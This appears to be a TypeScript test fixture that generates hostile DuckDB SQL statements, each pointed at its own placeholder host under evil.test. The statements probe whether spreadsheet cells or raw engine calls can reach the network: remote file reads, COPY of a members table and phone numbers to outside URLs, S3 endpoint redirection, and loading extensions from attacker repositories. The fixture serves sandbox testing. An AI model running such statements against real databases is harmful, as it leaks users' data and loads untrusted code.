import { changesOutside, readsOutside } from '../../engine/engine/reaching-out.ts';

/** Texts that would carry something out, each to a host of its own, so that what arrives says where from. */
export interface Attempt {
  readonly host: string;
  /** Run one after the other; a cell can hold only one of them. */
  readonly statements: readonly string[];
}

/** What somebody could write into one cell. */
export function cellAttempts(): readonly Attempt[] {
  const count = readsOutside('http://x/').length + changesOutside('http://x/').length;
  const listed = Array.from({ length: count }, (_, at) => (evil: string) => {
    return [...readsOutside(evil), ...changesOutside(evil)][at] ?? '';
  });
  return [...listed, ...generated()].map((write, at) => {
    const host = `cell-${String(at)}.evil.test`;
    return { host, statements: [write(`http://${host}/x?p=13800000000`)] };
  });
}

/** Every reader in every place of a query where a table or a value can stand. */
function generated(): readonly ((evil: string) => string)[] {
  const readers = ['read_csv', 'read_text', 'read_blob', 'glob', 'sniff_csv'];
  const places: readonly ((reader: string, evil: string) => string)[] = [
    (reader, evil) => `SELECT * FROM ${reader}('${evil}') AS t ORDER BY ALL`,
    (reader, evil) => `SELECT 1 UNION ALL SELECT count(*) FROM ${reader}('${evil}')`,
    (reader, evil) =>
      `SELECT * FROM range(3) AS r, LATERAL (SELECT count(*) FROM ${reader}('${evil}'))`,
    (reader, evil) => `SELECT 1 AS a FROM range(1) LEFT JOIN ${reader}('${evil}') ON true`,
    (reader, evil) => `SELECT [x FOR x IN (SELECT list(t) FROM ${reader}('${evil}') AS t)]`,
    (reader, evil) =>
      `WITH RECURSIVE t AS (SELECT 1 UNION SELECT 1 FROM ${reader}('${evil}')) FROM t`,
    (reader, evil) => `SELECT 1 QUALIFY (SELECT count(*) FROM ${reader}('${evil}')) > 0`,
    (reader, evil) => `FROM ${reader}('${evil.replace('http:', 'HTTP:')}')`,
    (reader, evil) =>
      `FROM ${reader}('s3://b/x?s3_endpoint=${new URL(evil).host}&s3_use_ssl=false')`,
    (reader, evil) => `FROM system.main.${reader}('${evil}' || '/' || chr(97))`,
  ];
  return readers.flatMap((reader) => places.map((place) => (evil: string) => place(reader, evil)));
}

/** What a hostile caller could tell the engine if nothing checked the text; the last ones carry data. */
export function rawAttempts(): readonly Attempt[] {
  const forms: readonly ((evil: string, host: string) => readonly string[])[] = [
    (evil) => [`FROM read_csv('${evil}')`],
    (evil) => [`FROM read_csv_auto('${evil}')`],
    (evil) => [`FROM read_text('${evil}')`],
    (evil) => [`FROM read_blob('${evil}')`],
    (evil) => [`FROM sniff_csv('${evil}')`],
    (evil) => [`FROM '${evil}.csv'`],
    (evil) => [`SELECT (SELECT count(*) FROM read_csv('${evil}'))`],
    (evil) => [`CREATE VIEW v AS FROM read_csv('${evil}')`],
    (evil) => [`CREATE TABLE copied AS FROM read_text('${evil}')`],
    (evil) => [`CREATE TABLE filled (a VARCHAR)`, `COPY filled FROM '${evil}.csv'`],
    (evil) => [`INSERT INTO members FROM read_csv('${evil}')`],
    (evil) => [`EXPLAIN ANALYZE FROM read_csv('${evil}')`],
    (evil) => [`DESCRIBE FROM read_csv('${evil}')`],
    (evil) => [`SUMMARIZE FROM read_csv('${evil}')`],
    (evil) => [`PREPARE p AS FROM read_csv('${evil}')`, 'EXECUTE p'],
    (evil) => [`CREATE MACRO go(u) AS TABLE FROM read_csv(u)`, `FROM go('${evil}')`],
    (evil) => [`FROM query('FROM read_csv(''${evil}'')')`],
    (evil) => [
      `SET VARIABLE u = (SELECT '${evil}&q=' || phone FROM members)`,
      `FROM read_csv(getvariable('u'))`,
    ],
    (evil) => [`COPY members TO '${evil}.csv'`],
    (evil) => [`COPY members TO '${evil}' (FORMAT csv, HEADER)`],
    (_, host) => [`SET s3_endpoint='${host}'`, `COPY members TO 's3://b/x.csv'`],
    (_, host) => [`SET s3_endpoint='${host}'`, `FROM read_csv('s3://b/x.csv')`],
    (_, host) => [
      `CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT '${host}')`,
      `FROM read_csv('s3://b/y.csv')`,
    ],
    (evil) => [`ATTACH '${evil}.db' AS far`],
    (evil) => [`ATTACH '${evil}.db' AS far_read (READ_ONLY)`],
    (evil) => [`EXPORT DATABASE '${evil}'`],
    (evil) => [`IMPORT DATABASE '${evil}'`],
    (evil) => [`SET custom_extension_repository='${evil}'`, 'INSTALL json', 'LOAD json'],
    (evil) => [`LOAD '${evil}/x.duckdb_extension.wasm'`],
    (evil) => [`INSTALL icu FROM '${evil}'`, 'LOAD icu'],
  ];
  return forms.map((write, at) => {
    const host = `raw-${String(at)}.evil.test`;
    return { host, statements: write(`http://${host}/x?p=1`, host) };
  });
}
